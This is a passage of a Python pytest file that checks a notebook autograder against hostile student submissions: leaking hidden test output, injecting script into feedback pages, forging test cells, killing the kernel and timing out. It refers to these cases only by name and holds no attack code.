    leaked, honest = (_feedback_text(out, name) for name in ("prints-hidden-reversed", "aa-honest-first"))
    assert reversed_line not in leaked and "outputs not shown: this cell ran after a hidden test" in leaked
    # A visible test after the first hidden one shows its verdict, not what it printed (its source
    # quotes the line once; the default feedback has its output as well).
    printed = "Part 2: the visible tests pass."
    assert _feedback_text(hostile_class["out"], "aa-honest-first").count(printed) == 2
    assert honest.count(printed) == 1 and "This test passed." in honest
    with open(out / "grades.csv", newline="") as handle:  # the grades do not change
        assert {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)} == {
            "aa-honest-first": FULL, "prints-hidden-reversed": FULL}


def test_feedback_runs_no_script_of_the_students(hostile_class):
    from playwright.sync_api import sync_playwright

    page_path = hostile_class["out"] / "feedback" / "injects-script" / ASSIGNMENT / f"{NOTEBOOK}.html"
    chromium = os.environ.get("NLPBOOK_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium,
                                             args=["--no-sandbox"] if os.geteuid() == 0 else [])
        page = browser.new_page()
        page.goto(page_path.as_uri())
        page.wait_for_timeout(1000)
        ran = page.evaluate(f"typeof {SCRIPT}")
        browser.close()
    assert ran == "undefined"


def _verdicts(hostile_class, name) -> dict[str, list[str]]:
    """grade id -> the errors of that test cell in the hand-in's graded notebook."""
    path = autograded(hostile_class["out"], name, ASSIGNMENT, NOTEBOOK)
    return {cell.metadata.nbgrader["grade_id"]: [o.evalue for o in cell.outputs if o.output_type == "error"]
            for cell in nbformat.read(path, as_version=4).cells
            if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade")}


@pytest.mark.parametrize("name, parts, reason", [
    ("too-slow-overall", {"sinusoidal", "rotary"},
     f"(not run: the notebook ran past its time limit of {NOTEBOOK_TIMEOUT}"),
    ("kills-the-kernel", {"rotary"}, "killed by signal 9"),  # stopped in the visible test, then not run
    ("infinite-loop", {"causal_mask"}, f"(interrupted: this cell ran past its time limit of {CELL_TIMEOUT} s)"),
])
def test_feedback_puts_tests_the_grader_cut_short_down_to_the_cut(hostile_class, name, parts, reason):
    # Not to "an error in your code": too-slow-overall's part 5 is correct, its notebook ran out of time.
    verdicts = _verdicts(hostile_class, name)
    cut = {grade_id: errors for grade_id, errors in verdicts.items()
           if grade_id.removeprefix("test_").rsplit("_", 1)[0] in parts}
    assert len(cut) == 2 * len(parts), verdicts  # a visible and a hidden test cell a part
    for grade_id, errors in cut.items():
        assert len(errors) == 1 and reason in errors[0], (grade_id, errors)
    assert not any("an error in your code" in e for errors in verdicts.values() for e in errors), verdicts


def test_the_log_names_the_test_cells_a_notebook_can_forge(hostile_class):
    # The cells that rewrites-test-cells took without solving anything are the ones the log warns about.
    assert WITHOUT_A_VALUE_CHECK, "the course has no test cell without a value check: nothing here is shown"
    [line] = [line for line in _log(hostile_class).splitlines() if "FORGEABLE TESTS in attention.ipynb" in line]
    assert line.endswith(": " + ", ".join(WITHOUT_A_VALUE_CHECK)), line


def test_the_log_names_each_fault(hostile_class):
    log = _log(hostile_class)
    for name, words in [("exits-the-kernel", "the kernel died"), ("kills-the-kernel", "the kernel died"),
                        ("ignores-interrupts", "ignored the interrupt"),
                        ("too-slow-overall", f"time limit of {NOTEBOOK_TIMEOUT} s"),
                        ("not-utf8", "not UTF-8"), ("corrupt-json", "not a valid notebook"),
                        ("links-a-notebook", "a link"), ("links-a-folder", "a link, not a folder"),
                        ("renames-the-notebook", "missing")]:
        assert any(name in line and words in line for line in log.splitlines()), (name, words)
    for name in ("not-utf8", "corrupt-json", "links-a-notebook", "links-a-folder", "exits-the-kernel",
                 "kills-the-kernel", "ignores-interrupts", "too-slow-overall"):  # the last four stopped early
        assert f"NEEDS REVIEW {name}" in log, name
    stopped = {name for name in EXPECTED for line in log.splitlines()
               if f" {name}: " in line and "stopped early" in line}
    assert stopped == {"exits-the-kernel", "kills-the-kernel", "ignores-interrupts", "too-slow-overall"}, stopped
    assert any("exits-the-kernel" in line and "fatal: the cheese ran out" in line for line in log.splitlines())
    # The launcher ends as the kernel ended, SIGKILL included (it once said "exit status 1").
    assert any("exits-the-kernel" in line and "(exit status 3)" in line for line in log.splitlines())
    assert any("kills-the-kernel" in line and "(killed by signal 9)" in line for line in log.splitlines())
    assert "SANDBOX PROTECTION MISSING" not in log  # graded in the strongest mode
